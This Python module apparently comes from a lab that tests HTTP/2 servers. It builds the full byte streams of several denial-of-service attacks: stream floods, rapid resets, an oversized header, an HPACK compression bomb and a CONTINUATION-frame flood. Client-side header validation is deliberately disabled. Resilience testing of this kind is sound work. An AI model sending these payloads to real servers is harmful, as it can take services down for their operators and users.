"""The bytes of each HTTP/2 attack, made by the h2 library (and its framing layer, hyperframe).

Every attack starts with the client preface and SETTINGS that
``H2Connection.initiate_connection`` writes, and is built whole before a byte
is read from the server: the server's SETTINGS (its stream limit, say) are not
known yet, exactly as an attacker who does not wait for them. Header checks of
the h2 library are off, so it sends what a hostile client would.
"""

import h2.config
import h2.connection
import h2.errors
from hpack import NeverIndexedHeaderTuple
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame


def connection() -> h2.connection.H2Connection:
    """A client connection that writes what it is told (no outbound header checks)."""
    config = h2.config.H2Configuration(
        client_side=True,
        header_encoding=None,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
    )
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    return conn


def request_headers(authority: str, extra: list = ()) -> list:
    return [
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", authority.encode()),
        (b":path", b"/"),
        (b"user-agent", b"interface-lab-hostile-h2"),
        *extra,
    ]


def _streams(conn, case, authority) -> list:
    ids = []
    for _ in range(case.count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, request_headers(authority), end_stream=True)
        ids.append(stream_id)
    return ids


def _resets(conn, case, authority) -> list:
    ids = []
    for _ in range(case.count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, request_headers(authority), end_stream=True)
        conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
        ids.append(stream_id)
    return ids


def _big_header(conn, case, authority) -> list:
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, request_headers(authority, [(b"x-big", b"a" * case.size)]), end_stream=True)
    return [stream_id]


def _hpack_bomb(conn, case, authority) -> list:
    """The first copy goes into the dynamic table; every later one is a one-byte index to it."""
    stream_id = conn.get_next_available_stream_id()
    bomb = [(b"x-bomb", b"b" * case.size)] * case.count
    conn.send_headers(stream_id, request_headers(authority, bomb), end_stream=True)
    return [stream_id]


def build(case, authority: str) -> tuple[h2.connection.H2Connection, bytes, list]:
    """(the connection, every byte to send, the stream ids opened) for ``case``."""
    conn = connection()
    if case.attack == "continuation":
        preface = conn.data_to_send()
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, request_headers(authority), end_stream=True)
        sent = conn.data_to_send()
        first, length = Frame.parse_frame_header(memoryview(sent[:9]))
        first.parse_body(memoryview(sent[9 : 9 + length]))
        opened = HeadersFrame(stream_id, data=first.data, flags=["END_STREAM"])  # END_HEADERS taken off
        # Never indexed: every fragment is the whole field again, not a one-byte reference to the first.
        fragment = conn.encoder.encode([NeverIndexedHeaderTuple(b"x-pad", b"p" * max(case.size - 8, 1))], huffman=False)
        tail = b"".join(ContinuationFrame(stream_id, data=fragment).serialize() for _ in range(case.count))
        return conn, preface + opened.serialize() + tail, [stream_id]
    opened = {
        "get": _streams,
        "streams": _streams,
        "resets": _resets,
        "big-header": _big_header,
        "hpack-bomb": _hpack_bomb,
    }[case.attack](conn, case, authority)
    return conn, conn.data_to_send(), opened
